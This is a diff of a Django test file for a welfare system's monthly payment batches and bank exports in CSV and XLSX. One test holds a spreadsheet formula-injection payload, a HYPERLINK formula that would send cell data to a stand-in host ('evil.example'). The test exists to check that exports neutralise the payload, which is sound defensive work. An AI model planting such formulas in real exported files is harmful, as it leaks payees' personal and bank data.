@@ -1,20 +1,25 @@
-"""Monthly payment batches (SPEC §4.3): once per month, one payment per active enrollment at the amount in
-force, idempotent, run by a real Celery worker, exported as CSV for the bank with reconciling totals."""
+"""Monthly payment batches (SPEC §4.3): once per month, one payment per enrollment in force on the month's
+first day at the amount in force that day, idempotent, run by a real Celery worker, exported for the bank
+(CSV and XLSX) with reconciling totals."""
 
 import csv
 import datetime
 import io
 from decimal import Decimal
 
+import openpyxl
 import pytest
+from django.core.management import call_command
 
 from assistance import jobs
-from assistance.models import EnrollmentAmount, JobStatus, Payment, PaymentBatch
+from assistance.models import Enrollment, EnrollmentAmount, JobStatus, Payment, PaymentBatch
 from assistance.rules import Category
 from assistance.workflow import EnrollmentStatus
 from civil_affairs.accounts.models import Role
 from civil_affairs.audit.models import AuditEvent
 from civil_affairs.errors import Conflict
+from civil_affairs.exports import XLSX_TYPE
+from civil_affairs.people.models import Person
 from tests.assistance.factories import EnrollmentFactory, household_with
 from tests.helpers import wait_for
 
@@ -22,6 +27,13 @@ pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("divisions")]
 
 BATCHES = "/api/v1/assistance/payment-batches/"
 JULY = datetime.date(2024, 7, 1)
+
+
+@pytest.fixture
+def compiled_catalogue(settings):
+    """The .mo files are git-ignored: compile them as `make test` does, then have Django reload its catalogues."""
+    call_command("compile_translations", stdout=io.StringIO())
+    settings.LOCALE_PATHS = [*settings.LOCALE_PATHS]
 
 
 def run_batch(month, **options):
@@ -33,19 +45,22 @@ def paid(batch):
     return dict(Payment.objects.filter(batch=batch).values_list("enrollment_id", "amount"))
 
 
-def test_a_batch_pays_each_enrollment_active_in_the_month_once_on_the_worker(
+def test_a_batch_pays_each_enrollment_in_force_on_the_months_first_day_once_on_the_worker(
     api_as, reviewer, celery_worker_running
 ):
     whole_month = EnrollmentFactory(start=datetime.date(2024, 1, 1))
     from_first_day = EnrollmentFactory(
         start=JULY, category=Category.DISABILITY_CARE, standard=Decimal("100.00"), covered_count=1
     )
-    from_mid_month = EnrollmentFactory(start=datetime.date(2024, 7, 20), standard=Decimal("900.00"))
+    EnrollmentFactory(start=datetime.date(2024, 7, 20), standard=Decimal("900.00"))  # not started on 1 July
     ends_in_month = EnrollmentFactory(end=datetime.date(2024, 7, 10))
     EnrollmentFactory(end=datetime.date(2024, 6, 30))  # ended before the month
     EnrollmentFactory(start=datetime.date(2024, 8, 1))  # not yet started
-    EnrollmentFactory(status=EnrollmentStatus.SUSPENDED)
-    EnrollmentFactory(status=EnrollmentStatus.TERMINATED, end=datetime.date(2024, 12, 31))
+    EnrollmentFactory(status=EnrollmentStatus.SUSPENDED)  # suspended since its start
+    # Terminated today, in force until the end of the year: paid by what held on 1 July, not by today's status.
+    ends_later = EnrollmentFactory(
+        status=EnrollmentStatus.TERMINATED, end=datetime.date(2024, 12, 31), standard=Decimal("900.00")
+    )
 
     response = api_as(reviewer).post(BATCHES, {"month": "2024-07"}, format="json")
 
@@ -57,8 +72,8 @@ def test_a_batch_pays_each_enrollment_active_in_the_month_once_on_the_worker(
     assert paid(batch) == {
         whole_month.pk: Decimal("1000.00"),
         from_first_day.pk: Decimal("100.00"),
-        from_mid_month.pk: Decimal("900.00"),
         ends_in_month.pk: Decimal("1000.00"),
+        ends_later.pk: Decimal("900.00"),
     }
     assert set(Payment.objects.filter(batch=batch).values_list("month", flat=True)) == {JULY}
     assert (batch.count, batch.total) == (4, Decimal("3000.00"))
@@ -151,16 +166,33 @@ def test_a_completed_batch_is_left_as_it_is_when_its_job_runs_again():
 
 
 def read_csv(response):
-    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert body.startswith("\ufeff")  # the BOM: Excel reads the file as UTF-8
+    return list(csv.reader(io.StringIO(body[1:])))
+
+
+def read_xlsx(response):
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [[cell.value for cell in row] for row in sheet.iter_rows()]
+
+
+def with_bank_details(enrollment, payee, account, bank):
+    Enrollment.objects.filter(pk=enrollment.pk).update(payee=payee, bank_account=account, bank_name=bank)
+    return enrollment
 
 
 def test_the_bank_file_lists_every_payment_and_its_totals_reconcile_with_the_batch(api_as, reviewer):
-    gap = EnrollmentFactory(
-        household=household_with(["1000.01", "0"]),
-        total_income=Decimal("1000.01"),
-        member_count=2,
-        covered_count=1,
-    )  # (2000 − 1000.01) / 2 = 499.995 → 500.00
+    gap = with_bank_details(
+        EnrollmentFactory(
+            household=household_with(["1000.01", "0"]),
+            total_income=Decimal("1000.01"),
+            member_count=2,
+            covered_count=1,
+        ),  # (2000 − 1000.01) / 2 = 499.995 → 500.00
+        "王秀英",
+        "6228480012345678901",
+        "中国农业银行济南章丘支行",
+    )
     flat = EnrollmentFactory(category=Category.ORPHAN_COMMUNITY, standard=Decimal("1500.00"))
     third = EnrollmentFactory(standard=Decimal("987.65"))
     batch = run_batch(JULY)
@@ -170,16 +202,105 @@ def test_the_bank_file_lists_every_payment_and_its_totals_reconcile_with_the_bat
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     assert 'filename="payments-2024-07.csv"' in response["Content-Disposition"]
-    header, *lines, total_line = read_csv(response)
-    assert header == ["enrollment_id", "payee_name", "payee_id_number", "category", "month", "amount"]
+    header, *lines, blank, total_line = read_csv(response)
+    assert header == ["Payee", "ID number", "Bank account", "Bank", "Amount (yuan)", "Category", "Enrollment"]
     head = gap.household.members.get(relation="self").person
-    assert lines[0] == [str(gap.pk), head.name, head.id_number, "dibao_urban", "2024-07", "500.00"]
-    assert [line[0] for line in lines] == [str(gap.pk), str(flat.pk), str(third.pk)]
-    assert sum(Decimal(line[5]) for line in lines) == batch.total == Decimal("2987.65")
-    assert total_line == ["TOTAL", str(batch.count), "", "", "2024-07", "2987.65"]
-    assert AuditEvent.objects.filter(
+    # Digit strings an importer must keep as text (an 18-digit ID would be rounded as a number).
+    id_text = f'="{head.id_number}"' if head.id_number.isdigit() else head.id_number
+    assert lines[0] == [
+        "王秀英",
+        id_text,
+        '="6228480012345678901"',
+        "中国农业银行济南章丘支行",
+        "500.00",
+        "Urban minimum living allowance",
+        str(gap.pk),
+    ]
+    flat_head = flat.household.members.get(relation="self").person
+    assert lines[1][0] == flat_head.name  # no payee recorded: the household head, account left blank
+    assert lines[1][2:6] == ["", "", "1500.00", "Orphans in the community"]
+    assert [line[6] for line in lines] == [str(gap.pk), str(flat.pk), str(third.pk)]
+    # The total is outside the data rows: after an empty row, under the amounts.
+    assert blank == []
+    assert total_line == ["Total: 3 payments", "", "", "", "2987.65", "", ""]
+    assert sum(Decimal(line[4]) for line in lines) == batch.total == Decimal("2987.65")
+    event = AuditEvent.objects.get(
         object_type="assistance.paymentbatch", object_id=str(batch.pk), action="export"
-    ).exists()
+    )
+    assert event.changes["format"] == [None, "csv"]
+    assert event.changes["payments"] == [None, 3]
+
+
+def test_a_formula_in_a_name_comes_out_of_the_bank_file_as_text(api_as, reviewer):
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
+    by_head = EnrollmentFactory()
+    head = by_head.household.members.get(relation="self").person
+    Person.objects.filter(pk=head.pk).update(name=attack)
+    by_payee = with_bank_details(EnrollmentFactory(), attack, "6222021234567890123", "@SUM(1+1)")
+    batch = run_batch(JULY)
+    client = api_as(reviewer)
+
+    _, *lines, _, _ = read_csv(client.get(f"{BATCHES}{batch.pk}/export/"))
+    rows = read_xlsx(client.get(f"{BATCHES}{batch.pk}/export/", {"format": "xlsx"}))
+
+    assert [line[0] for line in lines] == ["'" + attack, "'" + attack]
+    assert lines[1][3] == "'@SUM(1+1)"
+    assert [row[0] for row in rows[1:3]] == ["'" + attack, "'" + attack]
+    assert rows[2][3] == "'@SUM(1+1)"
+    assert by_payee.pk  # both rows neutralised, whichever field carried the formula
+
+
+def test_the_bank_file_as_xlsx_keeps_id_and_account_numbers_as_text_and_the_total_apart(api_as, reviewer):
+    enrollment = with_bank_details(EnrollmentFactory(), "李建国", "6217000010012345678", "中国建设银行")
+    head = enrollment.household.members.get(relation="self").person
+    batch = run_batch(JULY)
+
+    response = api_as(reviewer).get(f"{BATCHES}{batch.pk}/export/", {"format": "xlsx"})
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == XLSX_TYPE
+    assert 'filename="payments-2024-07.xlsx"' in response["Content-Disposition"]
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    rows = list(sheet.iter_rows())
+    assert [c.value for c in rows[0]][:6] == [
+        "Payee",
+        "ID number",
+        "Bank account",
+        "Bank",
+        "Amount (yuan)",
+        "Category",
+    ]
+    data = rows[1]
+    assert (data[1].value, data[1].data_type) == (head.id_number, "s")
+    assert (data[2].value, data[2].data_type) == ("6217000010012345678", "s")
+    assert Decimal(str(data[4].value)) == Decimal("1000.00")
+    assert all(c.value is None for c in rows[2])  # the empty row: the total is not a data row
+    assert rows[3][0].value == "Total: 1 payments"
+    assert Decimal(str(rows[3][4].value)) == Decimal("1000.00")
+    assert AuditEvent.objects.get(object_type="assistance.paymentbatch", action="export").changes[
+        "format"
+    ] == [
+        None,
+        "xlsx",
+    ]
+
+
+def test_the_bank_file_page_names_columns_and_categories_in_simplified_chinese(
+    client, reviewer, compiled_catalogue
+):
+    with_bank_details(EnrollmentFactory(), "张桂兰", "6228480012345678901", "中国农业银行")
+    batch = run_batch(JULY)
+    client.force_login(reviewer)
+
+    header, line, _, total = read_csv(client.get(f"/assistance/payment-batches/{batch.pk}/export/"))
+    rows = read_xlsx(client.get(f"/assistance/payment-batches/{batch.pk}/export/", {"format": "xlsx"}))
+
+    assert header[:6] == ["收款人", "身份证号码", "银行账号", "开户银行", "金额（元）", "救助类别"]
+    assert line[5] == "城市最低生活保障"
+    assert total[0] == "合计：1 笔"
+    assert rows[0][:6] == header[:6]
+    assert rows[1][5] == "城市最低生活保障"
+    assert AuditEvent.objects.filter(object_type="assistance.paymentbatch", action="export").count() == 2
 
 
 def test_the_bank_file_holds_only_the_callers_jurisdiction(api_as, make_user):
@@ -188,10 +309,11 @@ def test_the_bank_file_holds_only_the_callers_jurisdiction(api_as, make_user):
     batch = run_batch(JULY)
     town_reviewer = make_user(Role.DISTRICT_REVIEWER, "370114001")
 
-    _, *lines, total_line = read_csv(api_as(town_reviewer).get(f"{BATCHES}{batch.pk}/export/"))
+    _, *lines, _, total_line = read_csv(api_as(town_reviewer).get(f"{BATCHES}{batch.pk}/export/"))
 
-    assert [line[0] for line in lines] == [str(mingshui.pk)]
-    assert total_line[1] == "1"
+    assert [line[6] for line in lines] == [str(mingshui.pk)]
+    assert total_line[0] == "Total: 1 payments"
+    assert total_line[4] == "1000.00"
 
 
 def test_a_batch_that_has_not_completed_cannot_be_exported(api_as, reviewer):
